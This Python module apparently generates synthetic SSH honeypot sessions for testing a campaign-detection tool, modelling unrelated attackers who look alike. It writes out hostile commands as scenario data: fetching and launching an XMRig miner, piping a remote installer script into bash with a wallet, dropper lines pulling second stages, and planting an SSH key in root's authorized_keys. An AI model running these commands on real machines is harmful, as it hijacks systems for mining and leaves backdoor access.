"""Look-alikes: sessions that resemble each other without one actor behind them (or two actors
behind one script). These are the cases an analysis must NOT merge."""

from __future__ import annotations

import base64
import hashlib
import random
import string
from collections.abc import Callable

from coord_core.contracts.campaigns import Verdict
from coord_core.scenarios import commands as cmd
from coord_core.scenarios.clients import GO_COMMON, GO_PLAIN, ClientProfile, popular_client
from coord_core.scenarios.credentials import (
    COMMON_CREDENTIALS,
    MIRAI_CREDENTIALS,
    TOP_CREDENTIALS,
    popular_credential,
)
from coord_core.scenarios.networks import NetworkKind
from coord_core.scenarios.schedule import Slot, burst, spread, stretch, visit, within
from coord_core.scenarios.timeline import CommandSpec, Source, bot_pace, independent_actors, new_source
from coord_core.scenarios.world import HOUR, MINUTE, ActorRecord, Scale, World

_POPULAR_ONE_LINERS = (
    "uname -a",
    "uname -s -v -n -r -m",
    "echo 'SSH check'",
    "cat /proc/cpuinfo | grep name | wc -l",
)
_PUBLIC_POOLS = (
    "pool.supportxmr.com:443",
    "xmr.2miners.com:2222",
    "gulf.moneroocean.stream:10128",
    "pool.hashvault.pro:443",
    "xmr-eu1.nanopool.org:14433",
)
_BASE58 = "".join(c for c in string.ascii_letters + string.digits if c not in "0OIl")


def _wallet(world: World) -> str:
    return "4" + "".join(world.rng.choice(_BASE58) for _ in range(94))


def _go_client(rng: random.Random) -> ClientProfile:
    """The commonest Go build, sometimes its plain sibling."""
    return GO_COMMON if rng.random() < 0.85 else GO_PLAIN


@independent_actors(
    "independent: commonest client, top-10 passwords and recon, same few minutes",
    {NetworkKind.CLOUD: 0.45, NetworkKind.HOSTING: 0.15, NetworkKind.RESIDENTIAL: 0.4},
    _go_client,
)
def common_tool_collision(world: World, join: Callable[[], Source], scale: Scale) -> None:
    """Independent attackers who only look alike and collide in time.

    Each uses the commonest Go client and HASSH, tries passwords from the top ten and runs one
    of the commonest one-line recon commands, and they all happen to arrive within the same few
    minutes. Each is its own actor with its own address: no campaign, however similar.
    """
    rng = world.rng
    width = rng.randint(3 * MINUTE, 12 * MINUTE)
    at = world.any_time()
    for _ in range(scale.count(rng, 8, 20)):
        attacker = join()
        commands = rng.sample(_POPULAR_ONE_LINERS, rng.choice((1, 1, 2)))
        for start in burst(world, rng.choice((1, 1, 2)), width_us=width, at_us=at):
            attempts = rng.randint(1, 3)
            tried = sorted(rng.sample(range(len(TOP_CREDENTIALS)), attempts))
            attacker.session(
                start,
                credentials=[TOP_CREDENTIALS[i] for i in tried],
                success_at=attempts - 1 if rng.random() < 0.4 else None,
                commands=commands,
            )


@independent_actors(
    "independent: same public GitHub release downloaded, own wallet and timing",
    {NetworkKind.CLOUD: 0.5, NetworkKind.HOSTING: 0.2, NetworkKind.RESIDENTIAL: 0.3},
)
def public_miner_downloads(world: World, join: Callable[[], Source], scale: Scale) -> None:
    """Unrelated attackers who fetch the same public file.

    Each downloads the same XMRig release from GitHub (same URL, same hash: it is public) and
    starts it against a public pool with their own wallet, at their own time, with their own
    client and guesses. A shared public artefact is not a shared actor.
    """
    rng = world.rng
    archive = cmd.PUBLIC_XMRIG_RELEASE.rsplit("/", 1)[1]
    release = cmd.Payload(cmd.PUBLIC_XMRIG_RELEASE, cmd.public_file_sha256(cmd.PUBLIC_XMRIG_RELEASE))
    for _ in range(scale.count(rng, 4, 10)):
        attacker = join()
        commands: list[CommandSpec] = [
            *cmd.recon_commands(rng, 0, 2),
            (f"cd /tmp && wget -q {cmd.PUBLIC_XMRIG_RELEASE} && tar xzf {archive}", (release,)),
            f"./xmrig-6.21.0/xmrig -o {rng.choice(_PUBLIC_POOLS)} -u {_wallet(world)} -k --tls -B",
        ]
        for start in spread(world, rng.choice((1, 1, 2))):
            attempts = rng.randint(1, 4)
            attacker.session(
                start,
                credentials=[popular_credential(rng) for _ in range(attempts)],
                success_at=attempts - 1,
                commands=commands,
            )


def shared_exploit_two_actors(world: World, scale: Scale) -> list[ActorRecord]:
    """Two groups running the same public miner-installer script, nothing else in common.

    Both pipe the same public setup script from GitHub into a shell (same URL and hash), but
    each then fetches its own second stage from its own host, mines to its own wallet, uses its
    own client and works from its own kind of network (consumer lines vs rented servers). Their
    active hours overlap. They are two campaigns and must stay two.
    """
    rng = world.rng
    actors = []
    setup = cmd.Payload(cmd.PUBLIC_MINER_SETUP, cmd.public_file_sha256(cmd.PUBLIC_MINER_SETUP))
    hours = stretch(world, min_us=3 * HOUR, max_us=8 * HOUR)
    first_client = popular_client(rng)
    second_client = popular_client(rng)
    while second_client.hassh == first_client.hassh:
        second_client = popular_client(rng)
    groups = (
        ({NetworkKind.RESIDENTIAL: 1.0}, first_client),
        ({NetworkKind.CLOUD: 0.6, NetworkKind.HOSTING: 0.4}, second_client),
    )
    for networks, client in groups:
        actor = world.new_actor(
            "shared_exploit_two_actors",
            Verdict.COORDINATED_CAMPAIGN,
            "same public installer as another campaign; own C2, wallet, client and networks",
        )
        actors.append(actor)
        host = world.payload_host({NetworkKind.HOSTING: 1.0})
        stage = cmd.drop_name(rng)
        stage_payload = cmd.Payload(f"http://{host}/{stage}", cmd.sha256_hex(rng))
        variant = rng.randrange(3)
        wallet = _wallet(world)
        base = bot_pace(rng)
        offset = rng.randint(-HOUR, HOUR)
        own_hours = Slot(hours.start_us + offset, hours.end_us + offset)
        for _ in range(scale.count(rng, 5, 12)):
            member = new_source(world, actor, networks, pace=base, client=client)
            for at in within(world, own_hours, rng.randint(1, 2)):
                attempts = rng.randint(1, 3)
                commands: list[CommandSpec] = [
                    *cmd.recon_commands(rng, 0, 1),
                    (f"curl -s -L {cmd.PUBLIC_MINER_SETUP} | bash -s {wallet}", (setup,)),
                    (cmd.dropper_line(host, stage, variant), (stage_payload,)),
                ]
                member.session(
                    at,
                    credentials=[popular_credential(rng) for _ in range(attempts)],
                    success_at=attempts - 1,
                    commands=commands,
                )
    return actors


_TMP = "/tmp"  # noqa: S108 - a path typed on the honeypot, not used here


def _key_line(rng: random.Random) -> str:
    blob = base64.b64encode(b"\x00\x00\x00\x07ssh-rsa" + rng.getrandbits(2072).to_bytes(259, "big")).decode()
    comment = rng.choice(("root@localhost", "admin@server", "user@debian", "rsa-key-2024", ""))
    return f"ssh-rsa {blob} {comment}".rstrip()


def _hex_chunk(rng: random.Random, size: int) -> str:
    return "".join(f"\\x{rng.getrandbits(8):02x}" for _ in range(size))


@independent_actors(
    "independent: files stored without a URL (redirection, stdin), own content and hash",
    {NetworkKind.CLOUD: 0.4, NetworkKind.HOSTING: 0.25, NetworkKind.RESIDENTIAL: 0.35},
)
def urlless_transfers(world: World, join: Callable[[], Source], scale: Scale) -> None:
    """Unrelated intruders whose files reach Cowrie without a URL.

    Each writes its own file: its own SSH key into ``authorized_keys`` by shell redirection, a
    small binary echoed in hex chunks into ``/tmp``, a file pushed over ``scp -t`` (standard
    input), or a marker echoed into ``/dev/null``. Cowrie logs each as
    ``cowrie.session.file_download`` when the channel closes: without a ``url`` (Cowrie 2.x)
    or, on a sensor still running Cowrie 1.x, with the redirection target as ``url``, so
    ``/dev/null`` and ``/root/.ssh/authorized_keys`` recur as "URLs" with nothing shared
    behind them. Every actor's content and SHA-256 are its own; networks, clients and times too.
    """
    rng = world.rng
    old_sensor = rng.choice(world.sensors) if len(world.sensors) > 1 or rng.random() < 0.3 else None
    for _ in range(scale.count(rng, 6, 15)):
        attacker = join()
        kind = rng.choice(("key", "key", "echo_binary", "scp", "null_marker"))
        name = "." + "".join(rng.choices(string.ascii_lowercase + string.digits, k=rng.randint(3, 7)))
        if kind == "key":
            content = _key_line(rng) + "\n"
            writer = f'mkdir -p /root/.ssh; echo "{content.strip()}" > /root/.ssh/authorized_keys'
            path = "/root/.ssh/authorized_keys"
        elif kind == "echo_binary":
            chunk = _hex_chunk(rng, rng.randint(24, 48))
            content = chunk
            writer = f"echo -ne '{chunk}' > /tmp/{name}; chmod +x /tmp/{name}"
            path = f"{_TMP}/{name}"
        elif kind == "scp":
            content = f"{rng.getrandbits(512):x}"
            writer = f"scp -t /tmp/{name}"
            path = f"{_TMP}/{name}"
        else:
            content = "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(16)) + "\n"
            writer = f"echo {content.strip()} > /dev/null && echo ok"
            path = "/dev/null"
        digest = hashlib.sha256(content.encode()).hexdigest()
        for start in spread(world, rng.choice((1, 1, 2))):
            sensor = world.sensor()
            if kind == "scp":
                style = "stdin"
            elif sensor == old_sensor:
                style = "legacy"
            else:
                style = "redir"
            commands: list[CommandSpec] = [*cmd.recon_commands(rng, 0, 2), writer]
            attempts = rng.randint(1, 3)
            attacker.session(
                start,
                sensor=sensor,
                credentials=[popular_credential(rng) for _ in range(attempts)],
                success_at=attempts - 1,
                commands=commands,
                exec_mode=kind == "scp" or rng.random() < 0.6,
                saved=[(len(commands) - 1, style, path, digest)],
            )


def public_default_list(world: World, scale: Scale) -> list[ActorRecord]:
    """Unrelated attackers running tools that ship the same public credential list.

    Every actor's tool walks one well-known list from its top (the Mirai factory-default
    list, or the common-password head every public wordlist starts with), a few entries per
    connection, and stops after its own number of guesses. Actors differ in network, client,
    protocol and time, spread over the whole window: the same ordered list is public, not a tie.
    """
    rng = world.rng
    actors = []
    public = MIRAI_CREDENTIALS if rng.random() < 0.5 else COMMON_CREDENTIALS
    telnet_share = 0.4 if public is MIRAI_CREDENTIALS else 0.0
    for _ in range(scale.count(rng, 6, 15)):
        actor = world.new_actor(
            "public_default_list",
            Verdict.COINCIDENTAL,
            "independent: walks the same public default credential list from its top",
        )
        actors.append(actor)
        ip = world.ip_of_kind(
            {NetworkKind.RESIDENTIAL: 0.5, NetworkKind.CLOUD: 0.3, NetworkKind.HOSTING: 0.2}
        )
        port = world.src_port_picker()
        telnet = rng.random() < telnet_share
        client = None if telnet else popular_client(rng)
        attacker = Source(world, actor, ip, port, bot_pace(rng), client)
        per_session = rng.randint(2, 6)
        total = rng.randint(4, min(len(public), 30))
        sessions = -(-total // per_session)
        times = visit(world, world.any_time(), sessions, mean_gap_s=rng.uniform(5, 60))
        cursor = 0
        for at in times:
            guesses = list(public[cursor : cursor + per_session])
            cursor += per_session
            attacker.session(at, protocol="telnet" if telnet else "ssh", credentials=guesses)
    return actors
